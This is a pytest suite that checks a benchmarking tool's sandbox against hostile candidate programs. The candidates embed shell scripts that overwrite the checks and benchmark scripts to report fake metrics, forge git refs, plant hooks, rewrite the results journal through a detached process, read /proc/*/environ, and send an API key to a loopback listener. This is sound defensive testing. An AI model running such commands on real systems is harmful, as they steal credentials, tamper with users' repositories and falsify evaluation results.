"""Hostile candidates (issue 9's attack table), each a real program on the real C target.

Every attack runs inside the benchmark (and the checks) of the candidate, through the real
CLI, and must end held: the user's checkout, the base worktree's build outputs, the refs, the
hooks and the git config are byte for byte as before; the canary secret is in no file under
the target; the loopback listener received nothing; no process of the candidate is left; and
nothing false is kept.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest
from conftest import BASE_WORK, PROGRAM, commit, git, params, run_cli, write

from readfirst.measure.sandbox import probe

needs_bwrap = pytest.mark.skipif(probe() is not None, reason=f"no usable sandbox: {probe()}")
CANARY = "sk-canary-" + uuid.uuid4().hex
SECRETS = {"OPENAI_API_KEY": CANARY, "ANTHROPIC_API_KEY": CANARY + "-anthropic"}


def hostile(target: Path, attack: str, *, work: int = BASE_WORK, scale: float = 1.0,
            extra: str = "") -> str:
    """Commit a candidate whose program first runs `attack` (a shell script) every time it
    is executed (benchmark rounds and checks alike), then does its usual work."""
    script = target / "src" / "attack.sh"
    write(target, "src/attack.sh", "#!/bin/sh\n" + attack + "\n", executable=True)
    prog = PROGRAM.replace(
        '#include "params.h"', '#include "params.h"\n#include <unistd.h>'
    ).replace(
        "    struct timespec a, b;",
        '    if (system("sh ./src/attack.sh >/dev/null 2>&1 </dev/null")) {}\n' + extra
        + "    struct timespec a, b;",
    )
    write(target, "src/prog.c", prog)
    write(target, "src/params.h", params(work, scale))
    assert script.exists()
    return commit(target, "hostile candidate")


class Listener:
    """A TCP server on the host's loopback that records every byte anyone sends it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.received = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def _digest_tree(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if any(rel == s or rel.startswith(s + "/") for s in skip):
            continue
        if path.is_symlink():
            out[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


class State:
    """What must not change: the user's checkout (files, refs, hooks, git config) and the
    base worktree's build outputs."""

    def __init__(self, target: Path) -> None:
        self.checkout = _digest_tree(target, (".git", ".readfirst"))
        self.hooks = _digest_tree(target / ".git" / "hooks")
        self.config = (target / ".git" / "config").read_bytes()
        self.refs = git(target, "for-each-ref", "--format=%(refname) %(objectname)")
        base = target / ".readfirst" / "worktrees" / "base"
        self.base_outputs = _digest_tree(base / "build") if base.is_dir() else None


def build_base(target: Path) -> None:
    """Measure HEAD once so the base worktree and its build outputs exist before the attack."""
    code, r, proc = run_cli("bench", "HEAD", "--rounds", "2", "--json", cwd=target)
    assert code == 0, proc.stderr


def _processes_with(token: str) -> list[int]:
    found = []
    for d in Path("/proc").glob("[0-9]*"):
        try:
            if token.encode() in (d / "cmdline").read_bytes():
                found.append(int(d.name))
        except OSError:
            continue
    return found


def assert_held(target: Path, before: State, listener: Listener | None = None,
                token: str | None = None) -> None:
    after = State(target)
    assert after.checkout == before.checkout, "the user's checkout changed"
    assert after.hooks == before.hooks, "hooks planted"
    assert after.config == before.config, "git config changed"
    if before.base_outputs is not None:
        assert after.base_outputs == before.base_outputs, "the base's build outputs changed"
    new_refs = set(after.refs.splitlines()) - set(before.refs.splitlines())
    assert all(r.startswith("refs/heads/readfirst/") for r in new_refs), new_refs
    for path in target.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert CANARY.encode() not in path.read_bytes(), f"canary in {path}"
    if listener is not None:
        assert listener.connections == 0 and listener.received == b"", listener.received[:200]
    if token is not None:
        assert _processes_with(token) == [], "a process of the candidate outlived the run"


def compare(target: Path, *args: str, env: dict[str, str] | None = None):
    return run_cli("compare", "HEAD~1", "HEAD", "--json", *args, cwd=target,
                   env={**SECRETS, **(env or {})})


# --- the attack table --------------------------------------------------------------------

@needs_bwrap
def test_rewriting_the_users_checkout_through_the_git_dir_is_held(target: Path) -> None:
    build_base(target)
    before = State(target)
    hostile(target, """
        common=$(git rev-parse --git-common-dir)
        user=$(cd "$common/.." && pwd)
        echo 'exit 0' > "$user/autoresearch.checks.sh"
        echo 'echo METRIC time_ms=0.001' > "$user/autoresearch.sh"
        echo '# pwned' >> "$user/readfirst.toml"
        echo pwned > "$user/src/pwned.c"
    """)
    before = State(target)  # after the commit of the candidate: the checkout as it now is
    code, r, proc = compare(target)
    assert code == 0, proc.stderr
    assert r["verdict"] in ("no_change", "inconclusive", "regressed"), r["reason"]
    assert_held(target, before)


def test_without_the_sandbox_a_rewritten_user_checkout_is_tampering(target: Path) -> None:
    hostile(target, """
        common=$(git rev-parse --git-common-dir)
        echo 'exit 0' > "$common/../autoresearch.checks.sh"
    """)
    code, r, proc = compare(target, "--no-sandbox")
    assert code == 0, proc.stderr
    assert r["verdict"] == "refused" and "tampering" in r["flags"], r["reason"]
    assert "user's checkout" in r["reason"] and r["files"] == ["autoresearch.checks.sh"]


@needs_bwrap
def test_rebuilding_the_base_binary_is_held(target: Path) -> None:
    build_base(target)
    hostile(target, """
        base=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)/.readfirst/worktrees/base
        printf '#!/bin/sh\\nsleep 0.3\\necho METRIC time_ms=100000\\n' > "$base/build/prog"
        chmod +x "$base/build/prog"
    """)
    before = State(target)
    code, r, proc = compare(target)
    assert code == 0, proc.stderr
    assert r["verdict"] in ("no_change", "inconclusive", "regressed"), r["reason"]
    assert_held(target, before)


def test_without_the_sandbox_a_rebuilt_base_is_suspect(target: Path) -> None:
    build_base(target)
    hostile(target, """
        base=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)/.readfirst/worktrees/base
        printf '#!/bin/sh\\nsleep 0.3\\necho METRIC time_ms=100000\\n' > "$base/build/prog"
        chmod +x "$base/build/prog"
    """)
    code, r, proc = compare(target, "--no-sandbox")
    assert code == 0, proc.stderr
    assert r["verdict"] == "suspect" and "base_outputs_changed" in r["flags"], r["reason"]
    assert "build/prog" in r["files"]


FORGE = """
    user=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)
    g="git -c core.hooksPath=/dev/null -C $user"
    forged=$($g commit-tree HEAD^{tree} -m forged)
    for ref in $($g for-each-ref --format='%(refname)' refs/heads/readfirst/); do
        $g update-ref "$ref" "$forged"
    done
    for hook in post-checkout reference-transaction pre-commit post-commit; do
        printf '#!/bin/sh\\necho hooked >> %s/HOOKED\\n' "$user" > "$user/.git/hooks/$hook"
        chmod +x "$user/.git/hooks/$hook"
    done
    setsid python3 -c "
import sqlite3, time
time.sleep(1.5)
db = sqlite3.connect('$user/.readfirst/journal.db')
db.execute(\\"UPDATE experiments SET outcome = 'kept', verdict = 'improved'\\")
db.commit()
" TOKEN </dev/null >/dev/null 2>&1 &
"""


def _patch_from(target: Path, out: Path) -> None:
    out.mkdir()
    (out / "01-hostile.patch").write_text(git(target, "format-patch", "-1", "--stdout"))
    git(target, "reset", "-q", "--hard", "HEAD~1")


def _loop_outcomes(target: Path) -> list[tuple[str, str | None, str | None]]:
    db = sqlite3.connect(target / ".readfirst" / "journal.db")
    return db.execute("SELECT kind, verdict, outcome FROM experiments ORDER BY id").fetchall()


@needs_bwrap
def test_forging_the_branch_hooks_and_journal_is_held(target: Path, tmp_path: Path) -> None:
    token = "rf-forge-" + uuid.uuid4().hex[:8]
    # a real speedup (so it is confirmed and landed) that also attacks the repository
    hostile(target, FORGE.replace("TOKEN", token), work=BASE_WORK // 2)
    _patch_from(target, tmp_path / "patches")
    before = State(target)
    code, s, proc = run_cli("run", "--proposer", "patches", "--patches",
                            str(tmp_path / "patches"), "--workers", "2", "--json", cwd=target,
                            env=SECRETS)
    assert code == 0, proc.stderr
    branch = s["branch"]
    head = git(target, "rev-parse", f"refs/heads/{branch}")
    db = sqlite3.connect(target / ".readfirst" / "journal.db")
    (baseline,) = db.execute("SELECT baseline FROM loop_runs WHERE id = ?",
                             (s["run_id"],)).fetchone()
    assert head == baseline, "the branch is not where the journal says"
    assert "forged" not in git(target, "log", "--format=%s", head)
    assert not (target / "HOOKED").exists()
    assert not s["stop_reason"].startswith("tampering")
    assert_held(target, before, token=token)


def test_without_the_sandbox_forged_branch_stops_with_tampering_and_hooks_never_run(
        target: Path, tmp_path: Path) -> None:
    token = "rf-forge-" + uuid.uuid4().hex[:8]
    hostile(target, FORGE.replace("TOKEN", token), work=BASE_WORK // 2)
    _patch_from(target, tmp_path / "patches")
    code, s, proc = run_cli("run", "--proposer", "patches", "--patches",
                            str(tmp_path / "patches"), "--workers", "2", "--json",
                            "--no-sandbox", cwd=target, env=SECRETS)
    assert code == 0, proc.stderr
    assert s["stop_reason"].startswith("tampering"), s["stop_reason"]
    head = git(target, "rev-parse", f"refs/heads/{s['branch']}")
    db = sqlite3.connect(target / ".readfirst" / "journal.db")
    (baseline,) = db.execute("SELECT baseline FROM loop_runs WHERE id = ?",
                             (s["run_id"],)).fetchone()
    assert head == baseline  # put back where the journal says
    assert "forged" not in git(target, "log", "--format=%s", head)
    # the hooks are planted (nothing stops that without the sandbox) but never ran
    assert (target / ".git" / "hooks" / "reference-transaction").exists()
    assert not (target / "HOOKED").exists()
    assert _processes_with(token) == []  # the detached journal editor was ended with its step


def test_a_link_out_of_the_worktree_is_refused(target: Path) -> None:
    before = State(target)
    os.symlink("../../../..", target / "src" / "up")
    hostile(target, "echo pwned > src/up/pwned")
    code, r, proc = compare(target)
    assert code == 0, proc.stderr
    assert r["verdict"] == "refused" and "link" in r["flags"], r["reason"]
    assert r["files"] == ["src/up"]
    git(target, "reset", "-q", "--hard", "HEAD~1")
    assert_held(target, before)


@needs_bwrap
def test_a_link_in_the_worktree_cannot_write_through(target: Path) -> None:
    """Links made at run time (not in the diff) meet the read-only sandbox instead."""
    build_base(target)
    hostile(target, """
        ln -sf ../../../.. up 2>/dev/null
        echo pwned > up/pwned; echo pwned > up/.readfirst/pwned
    """)
    before = State(target)
    code, r, proc = compare(target)
    assert code == 0, proc.stderr
    assert not (target / "pwned").exists()
    assert_held(target, before)


@needs_bwrap
def test_api_keys_network_and_daemons_are_held(target: Path) -> None:
    build_base(target)
    listener = Listener()
    token = "rf-daemon-" + uuid.uuid4().hex[:8]
    try:
        hostile(target, f"""
            env; env >&2; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'
            env > leaked-env.txt
            python3 -c "
import os, socket
s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)
s.sendall(os.environ.get('OPENAI_API_KEY', 'no key').encode())
" 2>/dev/null
            setsid python3 -c "import time; time.sleep(600)" {token} </dev/null >/dev/null 2>&1 &
            nohup sh -c "sleep 600; echo {token}" </dev/null >/dev/null 2>&1 &
        """)
        before = State(target)
        code, r, proc = compare(target)
        assert code == 0, proc.stderr
        assert r["verdict"] in ("no_change", "inconclusive", "regressed"), r["reason"]
        assert_held(target, before, listener, token)
    finally:
        listener.close()


def test_known_secrets_are_scrubbed_from_logs_without_the_sandbox(target: Path) -> None:
    """Without the sandbox the candidate can read its parent's environment; whatever it
    prints, the logs and the journal never hold a known secret."""
    hostile(target, "", extra='    if (system("cat /proc/$PPID/environ /proc/*/environ '
            '2>/dev/null | tr \'\\\\0\' \'\\\\n\'")) {}\n'
            '    if (system("echo $OPENAI_API_KEY >&2")) {}\n')
    code, r, proc = compare(target, "--no-sandbox")
    assert code == 0, proc.stderr
    logs = list((target / ".readfirst").rglob("*.out")) + list(
        (target / ".readfirst").rglob("*.err"))
    assert logs
    for path in [*logs, target / ".readfirst" / "journal.db"]:
        assert CANARY.encode() not in path.read_bytes(), path


@needs_bwrap
def test_a_metric_printed_better_than_measured_is_suspect(target: Path) -> None:
    # the candidate measures the same work but reports half of it
    toml = (target / "readfirst.toml").read_text().replace("rounds = 5", "rounds = 8")
    toml = toml.replace("wall_check = false", "wall_check = true")
    write(target, "readfirst.toml", toml)
    commit(target, "more rounds")
    hostile(target, "true", scale=0.5)
    before = State(target)
    code, r, proc = compare(target)
    assert code == 0, proc.stderr
    assert r["verdict"] == "suspect", (r["reason"], r["wall"], r.get("cpu"),
                                       r["base"]["samples"], r["cand"]["samples"])
    assert {"wall_time_unexplained", "wall_time_disagrees", "implausible_ratio"} & set(
        r["flags"]), r["flags"]
    assert_held(target, before)


def test_one_metric_printed_twice_with_different_values_is_suspect(target: Path) -> None:
    hostile(target, "true", work=BASE_WORK // 2,
            extra='    printf("METRIC time_ms=0.0001\\n");\n')
    code, r, proc = compare(target)
    assert code == 0, proc.stderr
    assert r["verdict"] == "suspect" and "metric_repeated" in r["flags"], r["reason"]


@needs_bwrap
def test_a_flood_of_binary_output_is_capped_and_metrics_still_read(target: Path) -> None:
    build_base(target)
    # 50 MB of non-UTF-8 bytes on the first run, then the METRIC lines after them
    flood = "[ -e flooded ] || { head -c 50000000 /dev/urandom; touch flooded; }"
    hostile(target, "true", extra=f'    if (system("{flood}")) {{}}\n')
    before = State(target)
    proc = subprocess.Popen([sys.executable, "-m", "readfirst", "compare", "HEAD~1", "HEAD",
                             "--json"], cwd=target, stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, env={**os.environ, **SECRETS})
    chunks: list[bytes] = []
    reader = threading.Thread(target=lambda: chunks.append(proc.stdout.read()))  # type: ignore[union-attr]
    reader.start()
    # VmHWM: readfirst's own peak memory (ru_maxrss would include the pytest process it was
    # forked from, which grows over a whole suite); a high-water mark, so the last read counts
    peak_kib = 0
    while proc.poll() is None:
        try:
            status_text = Path(f"/proc/{proc.pid}/status").read_text()
            peak_kib = max(peak_kib, int(status_text.split("VmHWM:")[1].split()[0]))
        except (OSError, IndexError, ValueError):
            pass
        time.sleep(0.02)
    reader.join()
    code, r = proc.returncode, json.loads(b"".join(chunks))
    assert code == 0
    assert r["verdict"] in ("no_change", "inconclusive", "regressed"), r["reason"]
    logs = sorted((target / ".readfirst" / "runs").rglob("cand-*.out"),
                  key=lambda p: p.stat().st_size)
    biggest = logs[-1]
    assert 16 * 2**20 - 2**16 < biggest.stat().st_size <= 16 * 2**20 + 2**12
    assert b"bytes of output dropped beyond the 16 MiB cap" in biggest.read_bytes()
    assert b"METRIC time_ms=" in biggest.read_bytes()[-4096:]
    total = sum(p.stat().st_size for p in (target / ".readfirst" / "runs").rglob("*"))
    assert total < 40 * 2**20
    assert 0 < peak_kib < 400 * 1024  # readfirst never held the flood in memory
    assert_held(target, before)
